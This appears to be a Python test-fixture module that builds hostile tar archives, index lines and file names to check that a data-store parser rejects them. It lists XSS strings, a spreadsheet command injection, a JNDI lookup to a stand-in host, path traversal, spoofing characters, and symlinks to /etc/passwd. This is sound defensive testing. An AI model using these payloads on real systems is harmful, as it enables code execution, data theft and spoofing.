"""Text that a hostile author writes, and tarballs, index lines and names that carry it.

What does not belong here: what must come of it (the tests).
"""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import zstandard

MARK = "zq7"  # stands in every payload: where it comes out, the payload did
PAYLOADS = (
    "<script>alert('zq7')</script>",
    "<img src=x onerror=alert('zq7')>",
    "zq7<svg/onload=alert(1)><!--",
    "[zq7](javascript:alert(1))",
    "![zq7](http://zq7.example/x.png)",
    "<http://zq7.example> http://zq7.example www.zq7.example me@zq7.example",
    "`zq7` **bold** _loose_ ~~gone~~ $x^2$",
    "zq7 | a | b \\| c |",
    "\x1b[2J\x1b]0;zq7\x07\x9b31m",
    "zq7\r\n# Heading zq7\r\n\r\n| a |\r\n|---|\r\n| zq7 |",
    "zq7\u202egnp.exe\u2066x\u2069",
    "\ufeffzq7\u200b\u2060\U000e0041",
    "zq7-раураl-ｓｃｒｉｐｔ",
    "=cmd|' /C calc'!A0 zq7",
    "{{7*7}}{% zq7 %}%s%n%x${jndi:ldap://zq7}",
    "../../zq7",
    "--- zq7",
    "&lt;script&gt;zq7 &#60;img&#62; &#x202e;",
    "zq7\x00nul\x7f",
    "zq7\u2028# x\u2029\x85y",
    "zq7" * 30_000,
)
UNSEEN = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
T0 = 1_750_000_000 * 10**9
HOST = "elliott-thinkpad"  # of the small store, which a run already trained on
STORE_NAMES = ("javascript-alert-zq7", "logs/zq7.html", "zq7.md")


# what an author can write


def header(name: bytes, size: int, kind: bytes = b"0", link: bytes = b"", magic: bytes = b"ustar\x0000") -> bytes:
    block = bytearray(512)
    block[: len(name[:100])] = name[:100]
    block[100:108], block[108:116], block[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
    block[124:136], block[136:148] = b"%011o\0" % size, b"00000000000\0"
    block[156:157], block[257:265] = kind, magic
    block[157 : 157 + len(link[:100])] = link[:100]
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def entry(name: bytes, data: bytes, **more: bytes) -> bytes:
    return header(name, len(data), **more) + data + bytes(-len(data) % 512)


def utf8(text: str) -> bytes:
    return text.encode("utf-8")


def field(text: str) -> bytes:
    """`text` as a field of a tar header may hold it."""
    return utf8(text).replace(b"\0", b"\x01")[:100]


def meta_of(episode: str, **changes: Any) -> bytes:
    known = {
        "schema_version": 1,
        "episode_id": episode,
        "host_id": HOST,
        "profile": "io-walk",
        "sample_name": "s-1",
        "benign": True,
        "t_start_wall_ns": T0,
        "t_end_wall_ns": T0 + 5 * 10**9,
    }
    return utf8(json.dumps({**known, **changes}))


def labels_of(*rows: Any) -> bytes:
    return entry(b"labels.jsonl", utf8("".join(json.dumps(row) + "\n" for row in rows)))


def pax(key: str, value: str) -> bytes:
    body = utf8(f" {key}={value}\n")
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length = len(str(length)) + len(body)
    return entry(b"pax", (b"%d" % length + body)[:8000], kind=b"x")


Made = Callable[[str, str], bytes]  # episode, payload -> the tar's members
CLEAN = {"t_wall_ns": T0, "phase": "clean"}


def meta_with(**fields: Callable[[str], Any]) -> Made:
    return lambda episode, text: entry(b"meta.json", meta_of(episode, **{k: v(text) for k, v in fields.items()}))


def beside(make: Callable[[str], bytes]) -> Made:
    return lambda episode, text: entry(b"meta.json", meta_of(episode)) + make(text)


USABLE: dict[str, Made] = {
    "extra keys and origin": lambda e, t: entry(
        b"meta.json", meta_of(e, origin=t, note=t, sources={t: 3}, **{t: {t: [t]}})
    ),
    "unknown members": beside(lambda t: b"".join(entry(utf8(name), utf8(t)) for name in STORE_NAMES)),
    "logs": beside(lambda t: entry(b"logs/auth.log", utf8(t)) + entry(b"gt_ttp_sequence.json", utf8(t))),
    "profile that reads like code": lambda e, t: entry(
        b"meta.json", meta_of(e, profile="javascript-zq7", sample_name="__proto__.zq7"[2:])
    ),
    "pax owner": lambda e, t: pax("uname", t) + entry(b"meta.json", meta_of(e)),
}
REJECTED: dict[str, Made] = {
    "episode id": meta_with(episode_id=str),
    "host id": meta_with(host_id=str),
    "profile": meta_with(profile=str),
    "sample": meta_with(sample_name=str),
    "benign": meta_with(benign=str),
    "version": meta_with(schema_version=str),
    "start": meta_with(t_start_wall_ns=str),
    "source counts": meta_with(sources=lambda t: {t: t}),
    "sources": meta_with(sources=str),
    "no JSON": lambda e, t: entry(b"meta.json", utf8(t)),
    "key twice": lambda e, t: entry(b"meta.json", meta_of(e)[:-1] + b"," + utf8(f"{json.dumps(t)}:1," * 2)[:-1] + b"}"),
    "phase": beside(lambda t: labels_of(CLEAN, {"t_wall_ns": T0 + 1, "phase": t})),
    "label": beside(lambda t: entry(b"labels.jsonl", utf8(t))),
    "label time": beside(lambda t: labels_of({"t_wall_ns": t, "phase": "clean"})),
    "member name": beside(lambda t: entry(field(t), b"")),
    "link": beside(lambda t: entry(b"logs/x.evtx", b"", kind=b"2", link=field(t))),
    "link of a hostile name": beside(lambda t: entry(field(t), b"", kind=b"2")),
    "type": beside(lambda t: entry(field(t), b"", kind=b"%")),
    "folder": beside(lambda t: entry(field(t), b"", kind=b"5")),
    "magic": beside(lambda t: entry(b"proc.jsonl", b"", magic=field(t)[:8].ljust(8, b" "))),
    "pax key": beside(lambda t: pax(t.replace("=", "-"), "x") + entry(b"proc.jsonl", b"")),
    "pax path": beside(lambda t: pax("path", t) + entry(b"proc.jsonl", b"")),
}
ROWS: dict[str, Made] = {
    "rows": beside(
        lambda t: (
            labels_of(CLEAN)
            + entry(b"proc.jsonl", utf8(json.dumps({t: t, "t_wall_ns": t}) + "\n" + t))
            + entry(b"netflow.jsonl", utf8(json.dumps({"t_wall_ns": T0, "t_mono_ns": 0, "bytes": 1, "src": t})))
        )
    )
}


def add(store: Path, name: str, tar: bytes) -> dict[str, Any]:
    data = zstandard.ZstdCompressor().compress(tar + bytes(1024))
    path = f"episodes/{HOST}/{name}.tar.zst"
    (store / path).parent.mkdir(parents=True, exist_ok=True)
    (store / path).write_bytes(data)
    digest = hashlib.sha256(data).hexdigest()
    return {"episode_id": name, "host_id": HOST, "path": path, "bytes": len(data), "sha256": digest}


def index_lines(text: str) -> Iterator[bytes]:
    """Index lines with `text` in every place."""
    good = {"episode_id": "gone", "host_id": HOST, "path": f"episodes/{HOST}/gone.tar.zst", "bytes": 1}
    good["sha256"] = "0" * 64
    for key in (*good, "profile", "sample_name", "received_wall_ns"):
        yield utf8(json.dumps({**good, key: text}))
        yield utf8(json.dumps({**good, key: text}, ensure_ascii=False))
    yield utf8(json.dumps({text: text}))
    yield utf8(json.dumps(text))
    yield utf8(text)
    yield utf8('{"' + text + '": ')


def write_index(store: Path, records: list[dict[str, Any]], payloads: tuple[str, ...]) -> None:
    lines = [line for text in payloads for line in index_lines(text)]
    with (store / "index.jsonl").open("ab") as index:
        index.write(b"\n" + b"\n".join([utf8(json.dumps(record)) for record in records] + lines) + b"\n\xff\xfe zq7")


def stray_names(store: Path) -> None:
    """Folders and files whose names are payloads."""
    names = [utf8(text.replace("/", ":").replace("\0", "0"))[:200].decode("utf-8", "ignore") for text in PAYLOADS]
    root = os.fsencode(store / "episodes")
    for name in [*(os.fsencode(name) for name in names), b"zq7\xff\xfe"]:
        Path(os.fsdecode(root + b"/" + name)).mkdir()
        Path(os.fsdecode(root + b"/" + name + b"/zq7.tar.zst")).write_bytes(b"")
        Path(os.fsdecode(root + utf8(f"/{HOST}/") + name + b".tar.zst")).write_bytes(b"")
        Path(os.fsdecode(root + utf8(f"/{HOST}/") + name + b"-link.tar.zst")).symlink_to("/etc/passwd")
